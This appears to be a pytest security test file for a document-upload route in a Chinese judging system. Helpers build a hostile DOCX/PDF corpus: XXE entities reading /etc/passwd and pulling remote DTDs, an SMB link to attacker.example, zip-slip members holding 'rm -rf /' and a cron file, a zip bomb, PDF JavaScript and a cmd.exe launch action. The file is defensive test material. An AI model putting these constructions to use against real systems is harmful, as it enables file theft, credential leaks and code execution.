"""Hostile uploads through the real submission route.

Every file in the corpus below is posted by a logged-in unit contact. Each one
is either refused with a Chinese message (no entry, no stored file, nothing on
disk) or accepted with a review copy that carries no active content, no
attachments, no author metadata and no external links — and the server never
answers 500, never takes 5 seconds, never fetches anything from the network.
The inspector alone is also run under ``tracemalloc`` to bound its memory.
"""

from __future__ import annotations

import io
import threading
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from lxml import etree
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from sqlalchemy import func, select

from judging.documents.inspection import (
    MSG_BOMB,
    MSG_CFB,
    MSG_DAMAGED,
    MSG_EMPTY,
    MSG_ENCRYPTED,
    MSG_MACRO,
    MSG_TYPE,
    MSG_XML,
    DocumentRejected,
    inspect_document,
)
from judging.extensions import db
from judging.submissions.models import Entry, StoredFile
from tests.conftest import csrf_token
from tests.submissions.conftest import entry_form

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
# CPU seconds of the test's own thread (time.thread_time), not wall time: a
# busy machine (other processes, two xdist workers on two cores) stretches wall
# time but not the work an inspection does. A zip bomb or a page-count trap
# that was not bounded would cost minutes of CPU, far above this.
CPU_SECONDS = 5.0
PEAK_BYTES = 256 * 1024 * 1024
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLD_AUTHOR = "张晓明"
FORBIDDEN_PDF_NAMES = {
    "/JavaScript",
    "/JS",
    "/OpenAction",
    "/Launch",
    "/EmbeddedFiles",
    "/EmbeddedFile",
    "/Author",
    "/AA",
    "/URI",
    "/AcroForm",
    "/Metadata",
    "/SubmitForm",
    "/GoToR",
}


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


# ------------------------------------------------------------- a trap server


class Trap:
    """A local HTTP server: any request to it means a file made us fetch a URL."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        trap = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server API)
                trap.hits.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture()
def trap() -> Iterator[Trap]:
    server = Trap()
    yield server
    server.close()


# ------------------------------------------------------------------ DOCX makers


def rewrite_docx(
    base: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
) -> bytes:
    """Copy a DOCX package member by member, replacing or adding some."""
    replace = replace or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info)))
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return out.getvalue()


def clean_docx() -> bytes:
    return fixture("clean.docx")


def _read(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read(name)


def _with_rels(data: bytes, part: str, rels: list[tuple[str, str, str]]) -> bytes:
    """Add (Id, Type suffix, Target) external relationships to ``part``'s rels."""
    folder, _, file = part.rpartition("/")
    rels_name = f"{folder}/_rels/{file}.rels" if folder else f"_rels/{file}.rels"
    try:
        root = etree.fromstring(_read(data, rels_name))
        exists = True
    except KeyError:
        root = etree.Element(f"{{{REL_NS}}}Relationships", nsmap={None: REL_NS})
        exists = False
    for rid, kind, target in rels:
        etree.SubElement(
            root,
            f"{{{REL_NS}}}Relationship",
            Id=rid,
            Type=f"{R}/{kind}",
            Target=target,
            TargetMode="External",
        )
    raw = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
    if exists:
        return rewrite_docx(data, replace={rels_name: raw})
    return rewrite_docx(data, add={rels_name: raw})


def docx_external_relationships(url: str) -> bytes:
    """Remote template, remote image, OLE link and a sub-document, all external:
    opening them in Word fetches the URL (and leaks a Windows hash over SMB)."""
    data = _with_rels(
        clean_docx(),
        "word/document.xml",
        [
            ("rIdX1", "image", f"{url}/image.png"),
            ("rIdX2", "oleObject", "file:///etc/passwd"),
            ("rIdX3", "subDocument", "file://attacker.example/share/x.docx"),
            ("rIdX4", "hyperlink", f"{url}/link"),
        ],
    )
    return _with_rels(
        data,
        "word/settings.xml",
        [("rIdT1", "attachedTemplate", f"{url}/template.dotm")],
    )


def docx_web_frame(url: str) -> bytes:
    """A frameset (webSettings) whose frame loads a remote document."""
    return _with_rels(clean_docx(), "word/webSettings.xml", [("rIdF", "frame", url)])


def docx_remote_image_link(url: str) -> bytes:
    """An inline picture drawn from a URL (r:link), the classic tracking pixel."""
    doc = _read(clean_docx(), "word/document.xml").decode()
    blip = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org'
        '/drawingml/2006/wordprocessingDrawing"><wp:extent cx="10" cy="10"/>'
        '<wp:docPr id="9" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats'
        '.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats'
        '.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.'
        'openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip '
        f'xmlns:r="{R}" r:link="rIdPix"/></pic:blipFill></pic:pic></a:graphicData>'
        "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    doc = doc.replace("<w:sectPr", blip + "<w:sectPr", 1)
    data = rewrite_docx(clean_docx(), replace={"word/document.xml": doc.encode()})
    return _with_rels(data, "word/document.xml", [("rIdPix", "image", f"{url}/px")])


def docx_author_metadata(url: str) -> bytes:
    core = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
        'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:creator>{OLD_AUTHOR}</dc:creator>"
        f"<cp:lastModifiedBy>{OLD_AUTHOR}</cp:lastModifiedBy></cp:coreProperties>"
    ).encode()
    app = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns='
        '"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
        "<Company>重庆大学</Company></Properties>"
    ).encode()
    return rewrite_docx(
        clean_docx(), replace={"docProps/core.xml": core, "docProps/app.xml": app}
    )


def docx_zip_bomb(url: str) -> bytes:
    """A 60 MB run of zeros that deflates to about 60 KB (ratio 1000:1)."""
    return rewrite_docx(clean_docx(), add={"word/media/image1.png": bytes(60 << 20)})


def docx_many_members(url: str) -> bytes:
    return rewrite_docx(
        clean_docx(), add={f"word/media/m{i}.xml": b"" for i in range(2500)}
    )


def _body_with_prolog(prolog: str, text: str) -> bytes:
    doc = _read(clean_docx(), "word/document.xml").decode()
    head, _, rest = doc.partition("?>")
    rest = rest.replace(
        "</w:body>", f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body>"
    )
    return rewrite_docx(
        clean_docx(),
        replace={"word/document.xml": (head + "?>" + prolog + rest).encode()},
    )


def docx_billion_laughs(url: str) -> bytes:
    ents = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
    )
    return _body_with_prolog(f"<!DOCTYPE w:document [{ents}]>", "&a9;")


def docx_external_entity(url: str) -> bytes:
    prolog = (
        "<!DOCTYPE w:document ["
        '<!ENTITY f SYSTEM "file:///etc/passwd">'
        f'<!ENTITY h SYSTEM "{url}/xxe">]>'
    )
    return _body_with_prolog(prolog, "&f;&h;")


def docx_parameter_entity(url: str) -> bytes:
    """An out-of-band XXE: a parameter entity pulls a remote DTD."""
    prolog = (
        f'<!DOCTYPE w:document [<!ENTITY % remote SYSTEM "{url}/evil.dtd">%remote;]>'
    )
    return _body_with_prolog(prolog, "x")


def docx_entity_in_rels(url: str) -> bytes:
    """The entity hides in a relationships part rather than the main document."""
    rels = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId1" Type="{R}/'
        'officeDocument" Target="word/document.xml"/></Relationships>'
    ).encode()
    return rewrite_docx(clean_docx(), replace={"_rels/.rels": rels})


def docm_renamed(url: str) -> bytes:
    types = _read(clean_docx(), "[Content_Types].xml").replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    )
    return rewrite_docx(
        clean_docx(),
        replace={"[Content_Types].xml": types},
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)},
    )


def docx_encrypted_zip(url: str) -> bytes:
    """Traditional zip encryption: the 'encrypted' bit set on every member."""
    data = bytearray(clean_docx())
    pos = 0
    while (pos := data.find(b"PK\x03\x04", pos)) >= 0:
        data[pos + 6] |= 1
        pos += 4
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) >= 0:
        data[pos + 8] |= 1
        pos += 4
    return bytes(data)


def docx_zip_slip(url: str) -> bytes:
    """Member names that climb out of any folder they are extracted to."""
    return rewrite_docx(
        clean_docx(),
        add={"../../../tmp/evil.sh": b"rm -rf /", "/etc/cron.d/evil": b"* * * * *"},
    )


def docx_truncated(url: str) -> bytes:
    data = clean_docx()
    return data[: len(data) * 2 // 3]


def doc_cfb_renamed(url: str) -> bytes:
    return fixture("encrypted.docx")  # an OLE2 container (encrypted Word)


# ------------------------------------------------------------------- PDF makers


def _pdf(writer: PdfWriter) -> bytes:
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def _clean_writer() -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(FIXTURES / "clean.pdf"))


def _js_action(code: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(code),
        }
    )


def pdf_javascript(url: str) -> bytes:
    writer = _clean_writer()
    names = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [
                    TextStringObject("startup"),
                    writer._add_object(_js_action(f"app.launchURL('{url}/js');")),  # noqa: SLF001
                ]
            )
        }
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(  # noqa: SLF001
        {NameObject("/JavaScript"): writer._add_object(names)}  # noqa: SLF001
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(  # noqa: SLF001
        _js_action("this.submitForm('" + url + "/open');")
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _js_action("app.alert(1)")}
    )
    return _pdf(writer)


def pdf_launch_action(url: str) -> bytes:
    writer = _clean_writer()
    launch = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
            NameObject("/Win"): DictionaryObject(
                {
                    NameObject("/F"): TextStringObject("cmd.exe"),
                    NameObject("/P"): TextStringObject("/c calc.exe"),
                }
            ),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(launch)  # noqa: SLF001
    return _pdf(writer)


def pdf_embedded_file(url: str) -> bytes:
    writer = _clean_writer()
    writer.add_attachment("作者信息.txt", f"作者：{OLD_AUTHOR}".encode())
    writer.add_attachment("payload.exe", b"MZ" + bytes(200))
    return _pdf(writer)


def pdf_incremental_old_author(url: str) -> bytes:
    """Revision 1 names the author; revision 2 (an incremental update) blanks it.
    A reader shows the new revision, but the old bytes are still in the file."""
    writer = _clean_writer()
    writer.add_metadata({"/Author": OLD_AUTHOR, "/Title": "论文"})
    first = _pdf(writer)
    update = PdfWriter(io.BytesIO(first), incremental=True)
    update.add_metadata({"/Author": "", "/Title": "论文"})
    second = _pdf(update)
    assert second.startswith(first)  # really appended, not rewritten
    return second


def pdf_remote_link_and_form(url: str) -> bytes:
    """A link annotation to a URL and a form field that submits to one."""
    writer = _clean_writer()
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url=f"{url}/link"))
    field = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): TextStringObject("name"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)]),
            NameObject("/AA"): DictionaryObject(
                {
                    NameObject("/K"): DictionaryObject(
                        {
                            NameObject("/S"): NameObject("/SubmitForm"),
                            NameObject("/F"): TextStringObject(f"{url}/submit"),
                        }
                    )
                }
            ),
        }
    )
    ref = writer._add_object(field)  # noqa: SLF001
    writer.pages[0][NameObject("/Annots")].append(ref)
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(  # noqa: SLF001
        {NameObject("/Fields"): ArrayObject([ref])}
    )
    return _pdf(writer)


def pdf_xmp_author(url: str) -> bytes:
    writer = _clean_writer()
    xmp = DecodedStreamObject()
    xmp.set_data(
        (
            '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org'
            '/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/'
            f'elements/1.1/"><dc:creator><rdf:Seq><rdf:li>{OLD_AUTHOR}</rdf:li>'
            "</rdf:Seq></dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>"
        ).encode()
    )
    xmp.update(
        {
            NameObject("/Type"): NameObject("/Metadata"),
            NameObject("/Subtype"): NameObject("/XML"),
        }
    )
    writer._root_object[NameObject("/Metadata")] = writer._add_object(xmp)  # noqa: SLF001
    return _pdf(writer)


def pdf_zip_polyglot(url: str) -> bytes:
    """A valid PDF that is also a valid zip (a DOCX appended after %%EOF)."""
    data = fixture("clean.pdf") + fixture("leaky.docx")
    assert zipfile.is_zipfile(io.BytesIO(data))
    return data


def pdf_after_junk(url: str) -> bytes:
    """Readers find %PDF- anywhere in the first kilobyte; junk before it hides it."""
    return b"GIF89a" + bytes(300) + fixture("clean.pdf")


def pdf_many_pages(url: str) -> bytes:
    writer = PdfWriter()
    for _ in range(600):
        writer.add_blank_page(width=595, height=842)
    return _pdf(writer)


def pdf_deep_nesting(url: str) -> bytes:
    depth = 100_000
    body = b"[" * depth + b"]" * depth
    head = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /X "
    obj2 = b" >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    data = head + body + obj2
    xref = len(data)
    return (
        data
        + b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n"
        + f"{len(head) + len(body) + 11:010d} 00000 n \n".encode()
        + f"trailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )


def pdf_xref_loop(url: str) -> bytes:
    """An incremental section whose /Prev points at itself: a naive reader loops."""
    base = fixture("clean.pdf")
    start = len(base)
    tail = (
        f"\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Prev {start + 1} "
        f">>\nstartxref\n{start + 1}\n%%EOF\n"
    )
    return base + tail.encode()


def pdf_encrypted(url: str) -> bytes:
    return fixture("encrypted.pdf")


def pdf_truncated(url: str) -> bytes:
    return fixture("truncated.pdf")


def pdf_header_only(url: str) -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(2000)


def png_renamed(url: str) -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(300)


def html_renamed(url: str) -> bytes:
    return f'<html><script src="{url}/x.js"></script></html>'.encode()


def empty_file(url: str) -> bytes:
    return b""


def whitespace_file(url: str) -> bytes:
    return b" \n\t" * 1000


# ------------------------------------------------------------------- the corpus


@dataclass(frozen=True)
class Hostile:
    name: str
    make: Callable[[str], bytes]
    filename: str
    refusal: str | None  # the expected Chinese message, or None when accepted
    kind: str = ""  # accepted files: the review copy's format


PAGES = "文件共 600 页，超过上限 500 页，请检查后重新提交。"
MESSAGES = (
    MSG_BOMB, MSG_XML, MSG_MACRO, MSG_ENCRYPTED, MSG_CFB, MSG_DAMAGED, MSG_TYPE,
    MSG_EMPTY, PAGES,
)  # fmt: skip
CORPUS = [
    Hostile("docx_zip_bomb", docx_zip_bomb, "a.docx", MSG_BOMB),
    Hostile("docx_many_members", docx_many_members, "a.docx", MSG_BOMB),
    Hostile("docx_billion_laughs", docx_billion_laughs, "a.docx", MSG_XML),
    Hostile("docx_external_entity", docx_external_entity, "a.docx", MSG_XML),
    Hostile("docx_parameter_entity", docx_parameter_entity, "a.docx", MSG_XML),
    Hostile("docx_entity_in_rels", docx_entity_in_rels, "a.docx", MSG_XML),
    Hostile("docm_renamed_docx", docm_renamed, "a.docx", MSG_MACRO),
    Hostile("docx_encrypted_zip", docx_encrypted_zip, "a.docx", MSG_ENCRYPTED),
    Hostile("doc_cfb_renamed_docx", doc_cfb_renamed, "a.docx", MSG_CFB),
    Hostile("docx_truncated", docx_truncated, "a.docx", MSG_DAMAGED),
    Hostile("docx_external_rels", docx_external_relationships, "a.docx", None, "docx"),
    Hostile("docx_web_frame", docx_web_frame, "a.docx", None, "docx"),
    Hostile("docx_remote_image", docx_remote_image_link, "a.docx", None, "docx"),
    Hostile("docx_author_metadata", docx_author_metadata, "a.docx", None, "docx"),
    Hostile("docx_zip_slip", docx_zip_slip, "a.docx", MSG_DAMAGED),
    Hostile("pdf_javascript", pdf_javascript, "a.pdf", None, "pdf"),
    Hostile("pdf_launch_action", pdf_launch_action, "a.pdf", None, "pdf"),
    Hostile("pdf_embedded_files", pdf_embedded_file, "a.pdf", None, "pdf"),
    Hostile("pdf_incremental_author", pdf_incremental_old_author, "a.pdf", None, "pdf"),
    Hostile("pdf_link_and_form", pdf_remote_link_and_form, "a.pdf", None, "pdf"),
    Hostile("pdf_xmp_author", pdf_xmp_author, "a.pdf", None, "pdf"),
    Hostile("pdf_zip_polyglot", pdf_zip_polyglot, "a.pdf", MSG_DAMAGED),
    Hostile("pdf_after_junk", pdf_after_junk, "a.pdf", None, "pdf"),
    Hostile("pdf_600_pages", pdf_many_pages, "a.pdf", PAGES),
    Hostile("pdf_deep_nesting", pdf_deep_nesting, "a.pdf", MSG_DAMAGED),
    Hostile("pdf_xref_loop", pdf_xref_loop, "a.pdf", MSG_DAMAGED),
    Hostile("pdf_encrypted", pdf_encrypted, "a.pdf", MSG_ENCRYPTED),
    Hostile("pdf_truncated", pdf_truncated, "a.pdf", MSG_DAMAGED),
    Hostile("pdf_header_only", pdf_header_only, "a.pdf", MSG_DAMAGED),
    Hostile("png_renamed_pdf", png_renamed, "a.pdf", MSG_TYPE),
    Hostile("html_renamed_pdf", html_renamed, "a.pdf", MSG_TYPE),
    Hostile("empty_file", empty_file, "a.pdf", MSG_EMPTY),
    Hostile("whitespace_file", whitespace_file, "a.docx", MSG_EMPTY),
]


# ------------------------------------------------------------- copy inspection


def pdf_names(data: bytes) -> set[str]:
    """Every name (keys and values) reachable from the trailer of a PDF."""
    reader = PdfReader(io.BytesIO(data))
    names: set[str] = set()
    seen: set[tuple[int, int]] = set()
    stack: list[object] = [reader.trailer]
    while stack:
        obj = stack.pop()
        if isinstance(obj, IndirectObject):
            if (obj.idnum, obj.generation) in seen:
                continue
            seen.add((obj.idnum, obj.generation))
            obj = obj.get_object()
        if isinstance(obj, DictionaryObject):
            names.update(str(k) for k in obj)
            stack.extend(dict.values(obj))
        elif isinstance(obj, ArrayObject):
            stack.extend(list.__iter__(obj))
        elif isinstance(obj, NameObject):
            names.add(str(obj))
    return names


def pdf_copy_problems(copy: bytes, trap_url: str) -> list[str]:
    problems = sorted(pdf_names(copy) & FORBIDDEN_PDF_NAMES)
    for needle in (
        OLD_AUTHOR.encode(),
        OLD_AUTHOR.encode("utf-16-be"),
        trap_url.encode(),
        b"PK\x03\x04",
        b"cmd.exe",
    ):
        if needle in copy:
            problems.append(repr(needle))
    return problems


def docx_copy_problems(copy: bytes, trap_url: str) -> list[str]:
    problems = []
    with zipfile.ZipFile(io.BytesIO(copy)) as zf:
        for name in zf.namelist():
            raw = zf.read(name)
            if "vbaproject" in name.lower():
                problems.append(name)
            if OLD_AUTHOR.encode() in raw or "重庆大学".encode() in raw:
                problems.append(f"{name}: author or unit")
            if not name.endswith(".rels"):
                continue
            for rel in etree.fromstring(raw).iter(f"{{{REL_NS}}}Relationship"):
                if rel.get("TargetMode") == "External":  # hyperlinks too
                    problems.append(f"{name}: {rel.get('Type')} -> {rel.get('Target')}")
    return problems


def _count(model) -> int:  # noqa: ANN001
    return db.session.scalar(select(func.count(model.id)))


def _files_on_disk(app) -> list[str]:  # noqa: ANN001
    root = Path(app.config["UPLOAD_FOLDER"])
    return sorted(p.name for p in root.rglob("*") if p.is_file())


# ------------------------------------------------------------------------ tests


def test_corpus_is_large_and_varied() -> None:
    assert len(CORPUS) >= 20
    assert len({h.name for h in CORPUS}) == len(CORPUS)
    assert {h.refusal is None for h in CORPUS} == {True, False}


@pytest.mark.parametrize("hostile", CORPUS, ids=lambda h: h.name)
def test_hostile_file_inspection_fast_and_bounded(hostile: Hostile) -> None:
    data = hostile.make("http://127.0.0.1:9")
    tracemalloc.start()
    started = time.thread_time()
    try:
        inspect_document(data, max_bytes=20 * 1024 * 1024)
    except DocumentRejected as exc:
        outcome = exc.message
    else:
        outcome = None
    cpu = time.thread_time() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()

    assert outcome == hostile.refusal
    assert cpu < CPU_SECONDS
    assert peak < PEAK_BYTES


def _upload(client, competition, hostile: Hostile, url: str):  # noqa: ANN001, ANN202
    path = f"/unit/competitions/{competition.id}/entries/new"
    form = entry_form(
        csrf_token(client, path), file=(hostile.make(url), hostile.filename)
    )
    started = time.thread_time()  # the test client runs the app in this thread
    response = client.post(
        path, data=form, content_type="multipart/form-data", follow_redirects=True
    )
    return response, time.thread_time() - started


def _review_copy(app, competition) -> tuple[str, bytes]:  # noqa: ANN001
    entry = db.session.scalar(
        select(Entry).where(Entry.competition_id == competition.id)
    )
    sha = entry.review_file.sha256
    path = Path(app.config["UPLOAD_FOLDER"]) / sha[:2] / sha
    return entry.review_file.kind, path.read_bytes()


def test_hostile_uploads_refused_or_sanitised(
    app, unit_client, make_competition, trap: Trap
) -> None:
    """The whole corpus through the real route, one competition per file (one app
    for all: the corpus runs in seconds rather than a fixture per file)."""
    outcomes, slow, problems = {}, {}, {}
    for hostile in CORPUS:
        competition = make_competition(title=hostile.name)
        files_before = (_count(StoredFile), _files_on_disk(app))
        response, cpu = _upload(unit_client, competition, hostile, trap.url)
        html = response.get_data(as_text=True)
        if cpu >= CPU_SECONDS or response.status_code != 200:
            slow[hostile.name] = (response.status_code, round(cpu, 2))
        if "作品已提交。" in html:
            kind, copy = _review_copy(app, competition)
            check = pdf_copy_problems if kind == "pdf" else docx_copy_problems
            outcomes[hostile.name] = kind
            if found := check(copy, trap.url):
                problems[hostile.name] = found
        else:
            message = next((m for m in MESSAGES if m in html), "no message")
            outcomes[hostile.name] = message
            if (_count(StoredFile), _files_on_disk(app)) != files_before:
                problems[hostile.name] = ["stored although refused"]

    assert outcomes == {h.name: h.refusal or h.kind for h in CORPUS}
    assert slow == {}
    assert problems == {}
    assert trap.hits == []
    assert _count(Entry) == sum(h.refusal is None for h in CORPUS)


def test_copy_checks_detect_the_originals(trap: Trap) -> None:
    """The checks above are not vacuous: every accepted original fails them."""
    clean = {}
    for hostile in CORPUS:
        if hostile.refusal is not None:
            continue
        check = pdf_copy_problems if hostile.kind == "pdf" else docx_copy_problems
        if not check(hostile.make(trap.url), trap.url):
            clean[hostile.name] = "no problem found in the original"

    assert clean == {}
